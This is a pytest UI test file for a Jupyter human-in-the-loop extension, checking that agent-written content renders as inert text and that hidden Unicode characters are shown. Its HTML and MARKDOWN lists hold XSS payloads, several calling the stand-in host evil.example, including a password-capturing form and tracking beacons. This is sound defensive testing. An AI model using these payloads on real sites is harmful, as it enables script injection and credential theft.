"""What a hostile agent writes stays text: nothing runs, nothing is loaded, and what is hidden is shown."""

from __future__ import annotations

from typing import Any
from urllib.parse import urlsplit

import pytest
from lab import Lab, Notebook, Page, shot
from letters import button, card, ledger

from hitl_nb.hidden_characters import show_hidden_characters
from hitl_nb.records import Proposal, Question, Snapshot

pytestmark = [pytest.mark.ui, pytest.mark.slow]

HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x'></object>",
    "<embed src='https://evil.example/x'>",
    "<form action='https://evil.example/'><input name=password><button>Approve</button></form>",
    "<a href='javascript:alert(1)'>Approve</a>",
    "<style>*{display:none!important}body{background:url(https://evil.example/css)}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<img src=https://evil.example/beacon.png>",
    "<video src=https://evil.example/v.mp4 autoplay onerror=alert(1)></video>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/d)'>over everything</div>",
    "<dialog open>Approve?</dialog>",
    "</pre></div></article><script>alert(1)</script>",
]
MARKDOWN = [
    "[Approve](javascript:alert(1))",
    "[Approve](JaVaScRiPt:alert(1))",
    "[Approve](&#106;avascript:alert(1))",
    "[Approve](java\tscript:alert(1))",
    "[Approve](vbscript:msgbox(1))",
    "[Approve](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[Approve](//evil.example/x)",
    "[Approve](/hub/logout)",
    "[Approve](blob:https://evil.example/x)",
    "![beacon](https://evil.example/beacon.png)",
    "![beacon](data:image/svg+xml,<svg onload=alert(1)>)",
    "![beacon][there]\n\n[there]: https://evil.example/ref.png",
    '<javascript:alert(1)>\n\n[x](https://evil.example/ "onmouseover=alert(1)")',
    "| a |\n|---|\n| <script>alert(1)</script> ![](https://evil.example/cell.png) |",
    "```html\n<script>alert(1)</script>\n```",
]
HIDDEN = {
    "\u202e": "⟨U+202E⟩",
    "\u2066": "⟨U+2066⟩",
    "\u200b": "⟨U+200B⟩",
    "\u200d": "⟨U+200D⟩",
    "\ufeff": "⟨U+FEFF⟩",
    "\u00ad": "⟨U+00AD⟩",
    "\u2028": "⟨U+2028⟩",
    "\x1b": "⟨U+001B⟩",
    "\U000e0041": "⟨U+E0041⟩",
}
FORBIDDEN = (
    "script, iframe, frame, object, embed, applet, form:not(.jp-hitl-comments form, .jp-hitl-confirm), img, picture, "
    "video, audio, "
    "source, link, meta, base, style, dialog, svg, math, template, portal, "
    "a[href]:not([href^='https://']):not([href^='mailto:'])"
)
STRANGERS = r"""all => all.map(one => one.outerHTML).filter(html => !(
    /^<svg class="jp-hitl-icon" viewBox="0 0 16 16" aria-hidden="true"><path d="[-0-9.a-zA-Z ]*"><\/path><\/svg>$/
        .test(html))).map(html => html.slice(0, 200))"""
"""The forbidden elements but our own icons, each of which is one path and nothing else."""
HANDLERS = """card => [...card.querySelectorAll('*')].flatMap(node => [...node.attributes]
  .filter(one => /^on/i.test(one.name) || /javascript:|evil\\.example/i.test(one.value)
    && !(node.tagName === 'A' && one.name === 'href') && !['title', 'value', 'aria-label'].includes(one.name))
  .map(one => `${node.tagName} ${one.name}=${one.value}`))"""

LOAD = f"""%load_ext hitl_nb
import hitl_nb as hitl
import pandas as pd
from pydantic import BaseModel
HTML = {HTML!r}
MARKDOWN = {MARKDOWN!r}
HIDDEN = {list(HIDDEN)!r}
ALL = HTML + MARKDOWN
"""
AGENTS = {
    "text": "hitl.checkpoint('\\n'.join(ALL), title='text ' + ' '.join(HTML[:5])[:150], context='\\n\\n'.join(ALL))",
    "markdown": "hitl.checkpoint('# markdown\\n\\n' + '\\n\\n'.join(ALL), kind='markdown', title='markdown',\n"
    "    context={html: attack for html, attack in zip(HTML, reversed(ALL))})",
    "code": "hitl.checkpoint('\\n'.join(ALL), kind='code', title='code')",
    "table": "hitl.checkpoint(pd.DataFrame({'a': ALL, HTML[0]: ALL, HTML[1]: range(len(ALL))}), title='table')",
    "json": "hitl.checkpoint({attack: attack for attack in ALL}, title='json')",
    "choice": "hitl.checkpoint(ALL[0], options=ALL, title='choice')",
    "plan": "hitl.checkpoint(ALL, title='plan')",
}


@pytest.fixture(scope="module")
def watched_events(page: Page) -> list[str]:
    """What must not happen, as far as it happened: dialogs, requests to elsewhere, windows that open."""
    seen: list[str] = []
    window = page.page

    def on_dialog(dialog: Any) -> None:
        seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def on_request(request: Any) -> None:
        there = urlsplit(request.url)
        if there.scheme not in ("data", "blob") and there.hostname != "127.0.0.1":
            seen.append(f"request {request.url}")

    window.on("dialog", on_dialog)
    window.context.on("request", on_request)
    window.context.on("page", lambda opened: seen.append(f"window {opened.url}"))
    return seen


def open_paused(page: Page, name: str, agent: str) -> Notebook:
    nb = page.open(f"{name}.ipynb", LOAD, f"%%agent {name}\n{agent}")
    nb.run_all()
    card(nb).wait_for()
    nb.until_kernel()
    return nb


def harmless(where: Any) -> None:
    """Nothing in there is an element or an attribute that could do something."""
    assert where.locator(FORBIDDEN).evaluate_all(STRANGERS) == []
    assert where.evaluate(HANDLERS) == []


@pytest.mark.parametrize("kind", AGENTS)
def test_an_attack_stays_text(page: Page, watched_events: list[str], kind: str) -> None:
    nb = open_paused(page, f"attack_{kind}", AGENTS[kind])
    shown = card(nb)
    harmless(shown)
    shot(shown, f"hostile-{kind}")
    nb.close()
    assert watched_events == []


HIDERS = {
    "text": "hitl.checkpoint('text ' + STRING, title='t')",
    "markdown": "hitl.checkpoint('# markdown ' + STRING, kind='markdown', title='t')",
    "code": "hitl.checkpoint('code = 1  # ' + STRING, kind='code', title='t')",
    "context": "hitl.checkpoint('text', title='t', context='context ' + STRING)",
    "json": "hitl.checkpoint({'field ' + STRING: 'value ' + STRING}, title='t', context={'k' + STRING: 'v' + STRING})",
    "table": "hitl.checkpoint(pd.DataFrame({'column ' + STRING: ['cell ' + STRING]}), title='t')",
    "choice": "hitl.checkpoint('a' + STRING, options=['a' + STRING, 'b'], title='c')",
}


@pytest.mark.parametrize("kind", HIDERS)
def test_hidden_characters_are_shown(page: Page, watched_events: list[str], kind: str) -> None:
    nb = open_paused(page, f"hidden_{kind}", "STRING = 'x'.join(HIDDEN)\n" + HIDERS[kind])
    shown = card(nb)
    shot(shown, f"hidden-{kind}")
    text = shown.evaluate("card => card.innerText")
    missing = [spelled for spelled in HIDDEN.values() if spelled not in text]
    nb.close()
    assert missing == []
    assert watched_events == []


# --- beyond the card ------------------------------------------------------------------------------------------------

ALL = [" ".join(attack.split()) for attack in HTML + MARKDOWN]
"""One line each, as titles are."""
STRING = "x".join(HIDDEN)


@pytest.fixture(scope="module")
def hostile_proposals(lab: Lab) -> list[Proposal]:
    """Proposals of a run in which everything that somebody may write is an attack: names, titles, what people said."""
    log = ledger(lab)
    notebook = str((lab.folder / f"{HTML[1]}{STRING}.ipynb").resolve())
    _, claim = log.runs.open(agent=f"told {HTML[4]} {MARKDOWN[0]} {STRING}", notebook=notebook, key=HTML[1])
    asked = [Question(title=f"told {text}", kind="text", value=text) for text in [*ALL, STRING]]
    made = log.runs.pause(claim, Snapshot(envelope=b""), asked).proposals
    log.proposals.assign(made[0].id, f"{HTML[1]}{STRING}", actor=HTML[2])
    log.comments.add(made[0].id, "\n\n".join(ALL), author=f"{HTML[1]}{STRING}", author_name=HTML[2])
    log.proposals.decide(made.pop().id, "reject", reason="\n".join([*ALL, STRING]), reviewer=f"{HTML[3]}{STRING}")
    return made


def inbox(page: Page, count: int) -> Any:
    """The inbox with so many attacks, and nothing else, in it (a locator)."""
    page.page.evaluate("() => { window.jupyterapp.commands.execute('hitl-nb:open-inbox') }")
    shown = page.page.locator("#hitl-nb-inbox")
    shown.get_by_role("searchbox").fill("told")
    if shown.get_by_role("button", name="Alike", exact=True).get_attribute("aria-pressed") == "true":
        shown.get_by_role("button", name="Alike", exact=True).click()
    shown.get_by_role("status").get_by_text(f"{count} of").wait_for()
    return shown


def test_an_attack_stays_text_in_the_inbox(
    page: Page, watched_events: list[str], hostile_proposals: list[Proposal]
) -> None:
    shown = inbox(page, len(hostile_proposals))
    rows = shown.locator("[role=option]")
    rows.nth(len(hostile_proposals) - 1).wait_for()
    assert rows.locator("strong").all_inner_texts() == [show_hidden_characters(p.title) for p in hostile_proposals]
    harmless(shown)
    first = rows.first.inner_text()
    assert [spelled for spelled in HIDDEN.values() if spelled not in first] == []
    shown.get_by_role("button", name="Filter", exact=True).click()
    shown.get_by_label("Groups").select_option(label="By agent")
    shown.get_by_role("button", name="Done", exact=True).click()
    shown.get_by_text(show_hidden_characters(hostile_proposals[0].agent), exact=True).wait_for()
    harmless(shown)
    shown.get_by_role("button", name="More of the list").click()
    shown.get_by_role("menuitem", name="Select all shown").click()
    shown.get_by_role("listbox").press("r")
    asked = shown.get_by_role("dialog")
    asked.wait_for()
    assert asked.get_by_role("rowheader").all_inner_texts() == [
        show_hidden_characters(p.title) for p in hostile_proposals
    ]
    harmless(shown)
    shot(page.page, "hostile-inbox")
    asked.get_by_role("button", name="Cancel").click()
    assert watched_events == []


def test_an_attack_stays_text_in_the_timeline(
    page: Page, watched_events: list[str], hostile_proposals: list[Proposal]
) -> None:
    shown = inbox(page, len(hostile_proposals))
    shown.get_by_text(show_hidden_characters(hostile_proposals[0].title), exact=True).click()
    shown.locator(".jp-hitl-card").wait_for()
    harmless(shown)
    button(shown, "Timeline").click()
    lanes = page.page.locator(".jp-hitl-timeline")
    entries = lanes.locator(".jp-hitl-entries button")
    entries.first.wait_for()
    for entry in entries.all():
        entry.click()
        lanes.locator(".jp-hitl-entry-detail").wait_for()
        harmless(lanes)
        entry.click()
    shot(lanes, "hostile-timeline")
    assert lanes.evaluate("all => all.outerHTML") == show_hidden_characters(lanes.evaluate("all => all.outerHTML"))
    for what in ("told <script>alert(1)</script>", "Rejected told", "Comment on told <script>"):
        assert lanes.locator(".jp-hitl-entry-text", has_text=what).count() > 0
    assert watched_events == []
